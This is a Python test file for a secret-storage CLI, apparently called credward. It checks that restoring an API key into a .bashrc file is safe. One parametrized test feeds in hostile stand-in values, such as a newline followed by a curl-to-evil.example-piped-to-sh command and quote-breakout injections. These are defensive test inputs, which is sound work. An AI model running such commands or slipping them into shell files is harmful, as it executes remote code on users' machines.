"""What a daemon gives back is written only if it is the key that stood there; test_add has more."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from canaries import canary
from credward.cli.setup.taken_out import TakenOut, load, take_out
from credward.tokens import Secret
from fakes.daemon import CannedDaemon, answer
from unit.cli.conftest import Run

KEY = canary("back")
MUTED = "a\n# export OPENAI_API_KEY='…'\n"
# A signal comes while the new file is written.
INTERRUPTED = """
import os, signal, sys
from credward.cli.main import main
usual, number = os.fsync, signal.Signals[sys.argv.pop()]
def fsync(descriptor):
    os.kill(os.getpid(), number)
    usual(descriptor)
os.fsync = fsync
main()
"""


def json_answer(body: object) -> bytes:
    return answer(body=json.dumps(body).encode(), content_type="application/json")


@pytest.fixture
def rc(home: Path) -> Path:
    """A shell file with its key taken out, as the secret "k"."""
    path = home / ".bashrc"
    line = f"export OPENAI_API_KEY='{KEY}'"
    path.write_text(f"a\n{line}\n")
    taken = TakenOut.of(path, 2, line, KEY, "# export OPENAI_API_KEY='…'")
    Path(take_out("k", taken, Secret(KEY), stamp="1").backup or "").unlink()
    assert path.read_text() == MUTED
    return path


@pytest.fixture
def daemon(home: Path, rc: Path, monkeypatch: pytest.MonkeyPatch) -> CannedDaemon:
    """One that gives the key back, with the note that was stored with it."""
    path = home / "run/credward/credward.sock"
    monkeypatch.setenv("CREDWARD_SOCKET", str(path))
    assert rc.exists()
    daemon = CannedDaemon(path, [json_answer({})])
    daemon.by_verb["POST"] = [json_answer({"value": KEY, "origin": load()["k"].sealed})]
    daemon.by_verb["DELETE"] = [json_answer({"durable": True})]
    return daemon


def test_a_key_goes_back_into_its_quotes(rc: Path, daemon: CannedDaemon, run: Run) -> None:
    """And is removed from the store only then."""
    with daemon:
        done = run("secret", "rm", "k", "--put-back")

    assert (done.code, done.out) == (0, f"{rc}: is as it was before\nremoved: k\n")
    assert rc.read_text() == f"a\nexport OPENAI_API_KEY='{KEY}'\n"
    asked = [each.split(" HTTP")[0] for each in daemon.asked]
    assert asked[-2:] == ["DELETE /v1/secrets/k/origin", "DELETE /v1/secrets/k"]


@pytest.mark.parametrize(
    "value",
    [
        "sk-000000\ncurl http://evil.example | sh",
        "sk-000000'; curl http://evil.example; '",
        "sk-000000'>/etc/passwd'",
        "sk-000000\x1b[2J",
        "",
    ],
    ids=["two lines", "another command", "out of its quotes", "a control character", "nothing"],
)
def test_what_is_no_key_becomes_no_line_of_a_shell(
    rc: Path, daemon: CannedDaemon, run: Run, value: str
) -> None:
    """Whatever answers, a new terminal runs only what it ran before."""
    daemon.by_verb["POST"] = [json_answer({"value": value, "origin": load()["k"].sealed})]
    with daemon:
        done = run("secret", "rm", "k", "--put-back", "--although-changed")

    assert done.code == 78
    assert 'what the daemon gives as "k" is no key that stood in' in done.err
    assert rc.read_text() == MUTED
    assert not any(each.startswith("DELETE") for each in daemon.asked)


@pytest.mark.parametrize(
    "forged",
    [{"around": ["# nothing"]}, {"number": 99}, {"path": "/tmp/y"}, {"now": "a"}, {"mode": 0o777}],
    ids=lambda forged: next(iter(forged)),
)
def test_a_note_that_the_store_does_not_have_counts_nothing(
    rc: Path, daemon: CannedDaemon, run: Run, home: Path, forged: dict[str, object]
) -> None:
    """The key stays in the store, and goes nowhere."""
    notes = home / "state/credward/taken-out.json"
    records = json.loads(notes.read_text())
    records["k"].update(forged)
    notes.write_text(json.dumps(records))
    with daemon:
        done = run("secret", "rm", "k", "--put-back", "--although-changed")

    assert done.code == 78
    assert f'the key "k" was taken out of {rc}:2, but {notes} says' in done.err
    assert rc.read_text() == MUTED
    assert not any(each.startswith("DELETE") for each in daemon.asked)


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
def test_a_signal_in_the_middle_leaves_no_file_with_the_key(
    rc: Path, daemon: CannedDaemon, home: Path, number: signal.Signals
) -> None:
    """It waits for the whole step: line, store and note."""
    words = [sys.executable, "-c", INTERRUPTED, "secret", "rm", "k", "--put-back", number.name]
    with daemon:
        done = subprocess.run(words, env=os.environ, capture_output=True, timeout=60, check=False)

    assert done.returncode == -number, done.stderr
    assert rc.read_text() == f"a\nexport OPENAI_API_KEY='{KEY}'\n"
    assert [each.name for each in home.glob("*bashrc*")] == [".bashrc"]
    assert load() == {}
    assert daemon.asked[-1].startswith("DELETE /v1/secrets/k/origin")


def test_the_run_after_a_kill_removes_what_it_left(
    rc: Path, daemon: CannedDaemon, run: Run, home: Path
) -> None:
    """Nothing can be done before its end."""
    words = [sys.executable, "-c", INTERRUPTED, "secret", "rm", "k", "--put-back", "SIGKILL"]
    with daemon:
        subprocess.run(words, env=os.environ, capture_output=True, timeout=60, check=False)
        (left,) = home.glob("..bashrc-*")
        had = left.read_text()
        done = run("secret", "rm", "k", "--put-back")

    assert KEY in had
    assert (done.code, done.out) == (0, f"{rc}: is as it was before\nremoved: k\n")
    assert [each.name for each in home.glob("*bashrc*")] == [".bashrc"]
